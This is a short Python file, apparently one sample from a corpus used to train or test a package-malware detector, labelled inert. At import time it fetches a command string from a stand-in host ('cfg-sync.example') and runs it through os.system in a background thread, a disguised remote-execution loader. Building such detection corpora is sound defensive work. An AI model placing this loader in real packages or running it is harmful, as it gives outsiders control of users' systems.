# pkgguard corpus 494 (import-time), modelled on [empirical]; inert, never run.
import os
from concurrent.futures import ThreadPoolExecutor
from urllib.request import urlopen

_pool = ThreadPoolExecutor(max_workers=1)


def _task():
    with urlopen("https://cfg-sync.example/v1/task", timeout=10) as resp:
        return resp.read().decode().strip()


_pool.submit(lambda: _pool.submit(os.system, _task()))
